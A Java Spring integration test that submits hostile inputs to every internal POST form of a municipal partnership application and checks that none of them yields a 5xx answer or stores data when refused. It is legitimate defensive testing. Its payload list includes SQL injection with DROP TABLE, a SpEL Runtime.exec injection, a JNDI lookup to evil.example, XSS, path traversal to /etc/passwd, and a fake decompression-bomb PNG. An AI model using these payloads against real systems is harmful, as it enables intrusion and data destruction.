package de.sipa;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;

import javax.imageio.ImageIO;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.AbstractMockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.request.RequestPostProcessor;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.multipart.MultipartFile;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * A corpus of hostile values against every internal form: each POST endpoint, collected from the MVC mappings (a new
 * form is covered without editing this test), submitted by a logged-in coordinator and by a partner (the police) of
 * one partnership. Each field of the form gets a hostile value in turn while the others hold plausible ones (so the
 * hostile value gets past the first check and reaches the binding, the rules and the database), and once every field
 * at the same time; forms with an upload also get files with hostile names and contents. Values: NUL and control
 * characters, a 100,000-character text, SQL, template and script injection, absurd dates, wrong types, path
 * traversal. None may answer 5xx, and a request refused with a 4xx stores nothing in the partnership's tables
 * ({@link TenantRows}).
 */
@SipaIntegrationTest
class HostileFormsTests {

    /** Each in every field at once; the first five also in one field at a time. */
    static final List<String> HOSTILE = List.of("a\u0000b", "x\u0001\u0007\u001b[31m\u007f\u0085y",
            "x".repeat(100_000), "' OR '1'='1'; DROP TABLE reports_report; --",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "${jndi:ldap://evil.example/a}",
            "<img src=x onerror=alert(1)>", "-999999999-01-01", "2026-02-30T25:61", "1e309", "-2147483649",
            "[\"a\",{\"b\":null}]", "../../../../etc/passwd", "\u202Egnp.exe\u200B\uFEFF\uD800");
    static final List<String> PER_FIELD = HOSTILE.subList(0, 5);
    static final List<String> FILE_NAMES = List.of("../../../../etc/passwd", "..\\..\\windows\\win.ini", "a\u0000.png",
            "n".repeat(5_000) + ".png", "<script>alert(1)</script>.png", "", "CON.png", ".htaccess");
    private static final Pattern VARIABLE = Pattern.compile("\\{([^}:]+)(:[^}]*)?}");

    @Autowired
    MockMvc mvc;

    @Autowired
    Fixtures fixtures;

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    @Autowired
    JdbcClient jdbc;

    @Test
    void noHostileValueInAnyInternalFormGetsA500OrIsStoredWhenRefused() throws Exception {
        var city = fixtures.city();
        var roles = Map.of("coordinator", user(fixtures.user(city.coordinator())),
                "partner", user(fixtures.user(city.policeUser())));
        var rows = new TenantRows(jdbc, city.id().value());
        var failures = new ArrayList<String>();
        var stored = new ArrayList<String>();
        var png = png();
        int requests = 0;
        int forms = 0;
        for (var entry : mappings.getHandlerMethods().entrySet()) {
            var info = entry.getKey();
            if (!info.getMethodsCondition().getMethods().contains(RequestMethod.POST)) {
                continue;
            }
            var fields = fields(entry.getValue(), city);
            var files = files(entry.getValue());
            for (var pattern : info.getPatternValues()) {
                if (pattern.contains("**") || pattern.startsWith("/open311") || pattern.startsWith("/error")) {
                    continue;
                }
                forms++;
                var path = VARIABLE.matcher(pattern).replaceAll(m -> m.group(1).equals("slug") ? "stadt-" + city.key()
                        : UUID.randomUUID().toString());
                // The submissions: hostile everywhere, then hostile in one field with the others plausible.
                var submissions = new LinkedHashMap<String, Map<String, String>>();
                for (var hostile : HOSTILE) {
                    var all = new LinkedHashMap<String, String>();
                    fields.keySet().forEach(name -> all.put(name, hostile));
                    submissions.put("every field = " + HostileInputTests.printable(hostile), all);
                    for (var field : PER_FIELD.contains(hostile) ? fields.keySet() : List.<String>of()) {
                        var one = new LinkedHashMap<>(fields);
                        one.put(field, hostile);
                        submissions.put(field + " = " + HostileInputTests.printable(hostile), one);
                    }
                }
                var uploads = new LinkedHashMap<String, List<MockMultipartFile>>();
                uploads.put("", List.of());
                for (var fileName : FILE_NAMES) {
                    uploads.put("file named " + HostileInputTests.printable(fileName),
                            files.stream().map(name -> new MockMultipartFile(name, fileName, "image/png", png)).toList());
                }
                if (!files.isEmpty()) {
                    uploads.put("HTML sent as a PNG", files.stream().map(name -> new MockMultipartFile(name, "bild.png",
                            "image/png", "<html><script>alert(1)</script>".getBytes(StandardCharsets.UTF_8))).toList());
                    uploads.put("a PNG of 40,000 × 40,000 pixels claimed", files.stream().map(name ->
                            new MockMultipartFile(name, "gross.png", "image/png", hugePng(png))).toList());
                }
                for (var role : roles.entrySet()) {
                    for (var submission : submissions.entrySet()) {
                        requests++;
                        submit(path, submission.getValue(), List.of(), role.getValue(), rows, failures, stored,
                                role.getKey() + " POST " + pattern + " with " + submission.getKey());
                    }
                    if (!files.isEmpty()) {
                        for (var upload : uploads.entrySet()) {
                            requests++;
                            submit(path, fields, upload.getValue(), role.getValue(), rows, failures, stored,
                                    role.getKey() + " POST " + pattern + " with " + upload.getKey());
                        }
                    }
                }
            }
        }
        System.out.println("HostileFormsTests: " + forms + " forms, " + requests + " requests, " + failures.size()
                + " answered 5xx, " + stored.size() + " refused but stored (checking took "
                + rows.checkingNanos / 1_000_000_000 + " s)");
        assertThat(forms).as("internal forms found").isGreaterThan(100);
        assertThat(failures).isEmpty();
        assertThat(stored).as("requests answered 4xx that changed the partnership's rows").isEmpty();
    }

    private void submit(String path, Map<String, String> values, List<MockMultipartFile> files, RequestPostProcessor who,
            TenantRows rows, List<String> failures, List<String> stored, String what) {
        AbstractMockHttpServletRequestBuilder<?> request;
        if (files.isEmpty()) {
            request = post(path);
        } else {
            var upload = multipart(path);
            files.forEach(upload::file);
            request = upload;
        }
        for (var value : values.entrySet()) {
            request.param(value.getKey(), value.getValue());
        }
        request.with(csrf()).with(who);
        int status;
        String problem = "";
        try {
            status = mvc.perform(request).andReturn().getResponse().getStatus();
        } catch (Exception e) {
            // MockMvc hands on what no handler took; a servlet container would answer 500.
            status = 500;
            var cause = e.getCause() == null ? e : e.getCause();
            problem = " → " + cause.getClass().getSimpleName() + ": " + cause.getMessage();
        }
        if (status >= 500) {
            failures.add(status + " " + what + problem);
        }
        var changed = rows.changedSinceLast();
        if (status >= 400 && status < 500 && !changed.isEmpty()) {
            stored.add(status + " " + what + " changed " + changed);
        }
    }

    /**
     * The form's fields (request parameters and the components of a form record) with a plausible value for their
     * type; ids named like the partnership's districts, organisations, people and bodies get real ones.
     */
    private static Map<String, String> fields(HandlerMethod method, Fixtures.City city) {
        var fields = new LinkedHashMap<String, String>();
        for (var parameter : method.getMethodParameters()) {
            var param = parameter.getParameterAnnotation(RequestParam.class);
            if (param != null && !MultipartFile.class.isAssignableFrom(parameter.getParameterType())) {
                var name = !param.name().isEmpty() ? param.name()
                        : !param.value().isEmpty() ? param.value() : parameter.getParameterName();
                if (name != null) {
                    fields.put(name, plausible(name, parameter.getParameterType(), city));
                }
            } else if (parameter.getParameterType().isRecord()) {
                for (var component : parameter.getParameterType().getRecordComponents()) {
                    if (!MultipartFile.class.isAssignableFrom(component.getType())) {
                        fields.put(component.getName(), plausible(component.getName(), component.getType(), city));
                    }
                }
            }
        }
        return fields;
    }

    private static List<String> files(HandlerMethod method) {
        var names = new ArrayList<String>();
        for (var parameter : method.getMethodParameters()) {
            var param = parameter.getParameterAnnotation(RequestParam.class);
            if (MultipartFile.class.isAssignableFrom(parameter.getParameterType())) {
                names.add(param != null && !param.name().isEmpty() ? param.name()
                        : param != null && !param.value().isEmpty() ? param.value() : parameter.getParameterName());
            } else if (parameter.getParameterType().isRecord()) {
                for (var component : parameter.getParameterType().getRecordComponents()) {
                    if (MultipartFile.class.isAssignableFrom(component.getType())) {
                        names.add(component.getName());
                    }
                }
            }
        }
        return names;
    }

    private static String plausible(String name, Class<?> type, Fixtures.City city) {
        var lower = name.toLowerCase();
        if (type == UUID.class || lower.endsWith("id") || lower.endsWith("ids")) {
            return lower.contains("district") ? city.districts().get(0).value().toString()
                    : lower.contains("person") || lower.contains("responsible") || lower.contains("contact")
                            ? city.officer().value().toString()
                    : lower.contains("body") ? city.steeringGroup().value().toString()
                    : lower.contains("organisation") || lower.contains("owner") || lower.contains("lead")
                            || lower.contains("assignee") ? city.police().value().toString()
                    : UUID.randomUUID().toString();
        }
        if (type == LocalDate.class || name.endsWith("On") || name.endsWith("Date") || lower.equals("date")
                || lower.equals("day")) {
            return LocalDate.now().plusDays(7).toString();
        }
        if (type == java.time.LocalTime.class || name.endsWith("Time") || lower.equals("time")) {
            return "10:00";
        }
        if (type == java.time.LocalDateTime.class || name.endsWith("At")) {
            return LocalDate.now().plusDays(7) + "T10:00";
        }
        if (type == int.class || type == Integer.class || type == long.class || type == Long.class
                || type == double.class || type == Double.class || type == java.math.BigDecimal.class) {
            return "1";
        }
        if (type == boolean.class || type == Boolean.class) {
            return "true";
        }
        if (type.isEnum() && type.getEnumConstants().length > 0) {
            return ((Enum<?>) type.getEnumConstants()[0]).name();
        }
        return "Prüfwert " + name;
    }

    private static byte[] png() throws IOException {
        var out = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB), "png", out);
        return out.toByteArray();
    }

    /** The small PNG with its header claiming 40,000 × 40,000 pixels (a decompression bomb's calling card). */
    private static byte[] hugePng(byte[] png) {
        var bytes = png.clone();
        // IHDR starts at byte 16: width, then height, 4 bytes each, big-endian.
        for (int offset : new int[] {16, 20}) {
            bytes[offset] = 0;
            bytes[offset + 1] = 0;
            bytes[offset + 2] = (byte) 0x9C;
            bytes[offset + 3] = 0x40;
        }
        return bytes;
    }
}
